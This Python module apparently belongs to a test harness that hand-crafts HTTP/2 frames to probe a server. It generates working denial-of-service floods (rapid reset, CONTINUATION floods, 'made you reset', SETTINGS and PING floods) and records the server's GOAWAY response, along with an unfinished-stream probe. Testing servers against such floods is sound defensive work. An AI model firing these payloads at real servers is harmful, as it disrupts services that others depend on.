"""HTTP/2 by hand, for what no client library would send."""

import socket
import struct
import time

from . import wire

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK: a literal without indexing and without Huffman coding; lengths below 127."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def block(method="POST", path="/PredictionService/Predict", more=()):
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "t")]
    return b"".join(literal(*field) for field in [*fields, *more])


GRPC_FIELDS = (("content-type", "application/grpc"), ("te", "trailers"))


def rapid_reset(times):
    for i in range(times):
        stream = 2 * i + 1
        yield frame(HEADERS, END_HEADERS, stream, block(more=GRPC_FIELDS)) + frame(
            RST_STREAM, 0, stream, struct.pack(">I", 8)
        )


def continuation(times):
    yield frame(HEADERS, 0, 1, block(more=GRPC_FIELDS))
    for i in range(times):
        yield frame(CONTINUATION, 0, 1, literal(f"x-{i}", "a" * 100))


def empty_continuation(times):
    yield frame(HEADERS, 0, 1, block(more=GRPC_FIELDS))
    for _ in range(times):
        yield frame(CONTINUATION, 0, 1)


def made_you_reset(times):
    """Each stream is opened well and then broken, so that the server has to reset it."""
    for i in range(times):
        stream = 2 * i + 1
        yield frame(HEADERS, END_HEADERS, stream, block(more=GRPC_FIELDS)) + frame(
            8, 0, stream, struct.pack(">I", 0x7FFFFFFF)  # WINDOW_UPDATE beyond the largest window
        )


def settings_flood(times):
    for _ in range(times):
        yield frame(SETTINGS, 0, 0)


def ping_flood(times):
    for _ in range(times):
        yield frame(PING, 0, 0, b"12345678")


FLOODS = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "empty_continuation": empty_continuation,
    "made_you_reset": made_you_reset,
    "settings": settings_flood,
    "ping": ping_flood,
}


def read_frames(data):
    frames = []
    while len(data) >= 9:
        length = int.from_bytes(data[:3], "big")
        if len(data) < 9 + length:
            break
        frames.append((data[3], data[4], int.from_bytes(data[5:9], "big"), data[9 : 9 + length]))
        data = data[9 + length :]
    return frames


def flood(address, spec, within):
    """(GOAWAY's error code or None, connection closed, seconds)."""
    began = time.monotonic()
    data = b""
    closed = False
    with socket.create_connection(address, timeout=5) as sock:
        sock.settimeout(0.02)

        def receive():
            nonlocal data, closed
            try:
                got = sock.recv(1 << 16)
                closed = closed or not got
                data += got
            except socket.timeout:
                pass
            except OSError:
                closed = True

        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
            pending = b""
            for i, piece in enumerate(FLOODS[spec["flood"]](spec["times"])):
                pending += piece
                if i % 50 == 49:
                    sock.settimeout(5)
                    sock.sendall(pending)
                    sock.settimeout(0.001)
                    pending = b""
                    receive()
            sock.settimeout(5)
            sock.sendall(pending)
        except OSError:
            pass  # closed while we flooded
        sock.settimeout(0.1)
        while not closed and time.monotonic() - began < within:
            receive()
    code = None
    for kind, _, _, payload in read_frames(data):
        if kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
    return code, closed, time.monotonic() - began


STATUSES = {8: 200, 12: 400, 13: 404, 14: 500}  # HPACK's static table
DIGITS = {f"{i:05b}": str(i) for i in range(3)} | {f"{22 + i:06b}": str(i) for i in range(3, 10)}


def status_of(block):
    """The status that a header block begins with; the connection's first, so nothing is indexed."""
    if block[0] & 0x80:
        return STATUSES[block[0] & 0x7F]
    size, text = block[1] & 0x7F, block[2 : 2 + (block[1] & 0x7F)]
    if not block[1] & 0x80:
        return int(text)
    bits, out = "".join(f"{byte:08b}" for byte in text[:size]), ""
    while len(out) < 3:
        width = 5 if bits[:5] in DIGITS else 6
        out, bits = out + DIGITS[bits[:width]], bits[width:]
    return int(out)


def unfinished(address, spec, within):
    """One request whose stream is never ended; the answer that comes all the same."""
    out = wire.Exchange()
    began = time.monotonic()
    fields = [("content-type", "application/json")]
    data = b""
    with socket.create_connection(address, timeout=5) as sock:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0)
                     + frame(HEADERS, END_HEADERS, 1, block("POST", spec["path"], fields))
                     + frame(DATA, 0, 1, wire.body_bytes(spec["unfinished"])))
        sock.settimeout(0.1)
        while not out.answers and time.monotonic() - began < within:
            try:
                got = sock.recv(1 << 16)
            except socket.timeout:
                continue
            if not got:
                out.closed = True
                break
            data += got
            out.answers = complete_answers(read_frames(data))
    out.elapsed = time.monotonic() - began
    return out


def complete_answers(frames):
    mine = [each for each in frames if each[2] == 1]
    heads = [payload for kind, _, _, payload in mine if kind == HEADERS]
    ended = any(flags & END_STREAM for kind, flags, _, _ in mine if kind in (DATA, HEADERS))
    if not heads or not ended:
        return []
    body = b"".join(payload for kind, _, _, payload in mine if kind == DATA)
    return [wire.Answer(status_of(heads[0]), {}, body)]
